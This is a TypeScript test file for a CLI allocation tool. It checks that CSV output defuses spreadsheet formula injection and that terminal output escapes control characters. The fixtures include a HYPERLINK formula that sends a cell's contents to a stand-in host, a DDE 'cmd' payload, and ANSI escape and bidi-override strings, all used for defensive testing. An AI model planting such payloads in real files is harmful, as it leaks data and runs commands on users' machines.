// Nothing injected: what `flere allocate` writes as CSV goes straight into Excel, where a
// cell starting with = + - @ tab or CR runs as a formula. Free recipient names
// (--no-registry) are the way in; every text cell must come out inert, every number as a
// plain number, in both CSV dialects, and flere must read its own output back unchanged.
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsvRecords } from '../../src/io/csv-records.js';
import { runCli } from '../helpers/run-cli.js';

/** Names a hostile or careless source could send, and the weights that go with them. */
const NAMES: readonly (readonly [string, string])[] = [
  ['=HYPERLINK("http://example.invalid/?"&A1,"klik")', '3'],
  ['@SUM(1)', '2'],
  ['-2+3', '1'],
  ['+45 12 34 56', '1'],
  ['=1+1', '1'],
  // Typed with Excel's text mark: the cell's text is `=already marked`, as Excel shows it.
  ["'=already marked", '1'],
  ['cmd|\' /C calc\'!A0', '1'],
  ['Odense', '2'],
];

/** The names as a comma-separated counts file, quoting each name for the CSV. */
const INPUT = ['name,count', ...NAMES.map(([n, w]) => `"${n.replace(/"/g, '""')}",${w}`), ''].join('\n');

const FORMULA_START = /^[=+\-@\t\r]/;

function records(csv: string, delimiter: string): string[][] {
  const body = csv.replace(/^\uFEFF/, '').replace(/\r\n/g, '\n');
  const { records: rows, failure } = parseCsvRecords(body.replace(/\n$/, ''), delimiter, 0, 'out');
  expect(failure).toBeUndefined();
  return rows.map((r) => r.cells);
}

describe.each([
  ['plain', ',', /^\d+(\.\d+)?$/],
  ['da', ';', /^\d+(,\d+)?$/],
] as const)('flere allocate --no-registry --locale %s', (locale, delimiter, numberForm) => {
  const run = (extra: readonly string[] = []) => {
    const result = runCli(['allocate', '-', '--no-registry', '--total', '1000', '--format', 'csv', '--locale', locale, ...extra], {
      input: INPUT,
    });
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    return records(result.stdout, delimiter);
  };

  it('writes no text cell that a spreadsheet would run', () => {
    for (const cells of run()) for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
  });

  it("puts the spreadsheets' text mark before each dangerous name, and nothing before the others", () => {
    const [header, ...rows] = run();
    const nameAt = header?.indexOf('name') ?? -1;
    const written = new Map(rows.map((r) => [r[0], r[nameAt]]));
    expect(written.get("'=1+1")).toBe("'=1+1");
    expect(written.get("'@SUM(1)")).toBe("'@SUM(1)");
    expect(written.get("'-2+3")).toBe("'-2+3");
    expect(written.get("'+45 12 34 56")).toBe("'+45 12 34 56");
    expect(written.get(`'=HYPERLINK("http://example.invalid/?"&A1,"klik")`)).toBeDefined();
    expect(written.get("'=already marked")).toBe("'=already marked");
    expect(written.get("cmd|' /C calc'!A0")).toBe("cmd|' /C calc'!A0");
    expect(written.get('Odense')).toBe('Odense');
  });

  it('leaves every number a plain number in the dialect', () => {
    const [header = [], ...rows] = run(['--explain']);
    const numeric = ['count', 'share', 'amount', 'tranche_1', 'tranche_2', 'tranche_3', 'floor'].map((h) => header.indexOf(h));
    expect(numeric).not.toContain(-1);
    for (const r of rows) for (const i of numeric) expect(r[i]).toMatch(numberForm);
    // 1000 kr. over weights 12: every krone is there.
    expect(rows.reduce((s, r) => s + Number(r[header.indexOf('amount')]), 0)).toBe(1000);
  });

  it('reads its own output back to the same names and amounts', () => {
    const dir = mkdtempSync(join(tmpdir(), 'flere-inject-'));
    const out = join(dir, 'out.csv');
    const first = runCli(['allocate', '-', '--no-registry', '--total', '1000', '--locale', locale, '-o', out], { input: INPUT });
    expect(first.code).toBe(0);
    const again = runCli(['allocate', out, '--no-registry', '--total', '1000', '--format', 'json']);
    const direct = runCli(['allocate', '-', '--no-registry', '--total', '1000', '--format', 'json'], { input: INPUT });
    expect(again.stderr).toBe('');
    expect(again.stdout).toBe(direct.stdout);
    const names = (JSON.parse(again.stdout) as { allocations: { name: string }[] }).allocations.map((a) => a.name);
    expect(names.sort()).toEqual(NAMES.map(([n]) => n.replace(/^'(?==)/, '')).sort());
    expect(readFileSync(out, 'utf8').startsWith(locale === 'da' ? '\uFEFF' : 'id,')).toBe(true);
  });
});

describe('JSON output', () => {
  it('keeps names exactly as given: JSON is data, not a spreadsheet', () => {
    const result = runCli(['allocate', '-', '--no-registry', '--total', '1000', '--format', 'json'], { input: INPUT });
    const names = (JSON.parse(result.stdout) as { allocations: { name: string }[] }).allocations.map((a) => a.name);
    expect(names).toContain('=1+1');
    expect(names).toContain('@SUM(1)');
    expect(names).toContain('=already marked');
  });
});

describe('the table for a terminal', () => {
  it('shows control characters in names as escapes, never sends them', () => {
    // Among ordinary names, so that the file is not taken for binary data.
    const hostile = ['"clear\u001b[2J\u001b]0;title\u0007"', '"two\nlines"', '"\u202eevil"'];
    const names = [...hostile, ...Array.from({ length: 27 }, (_, i) => `modtager ${i + 1}`)];
    const input = ['name,count', ...names.map((n) => `${n},1`), ''].join('\n');
    const result = runCli(['allocate', '-', '--no-registry', '--total', '30', '--format', 'table'], { input });
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(result.stdout).toContain('clear\\u001b[2J\\u001b]0;title\\u0007');
    expect(result.stdout).toContain('two\\nlines');
    expect(result.stdout).toContain('\\u202eevil');
    // Title, heading, 30 recipients, total: a line break in a name does not break the table.
    expect(result.stdout.trimEnd().split('\n')).toHaveLength(33);
  });
});
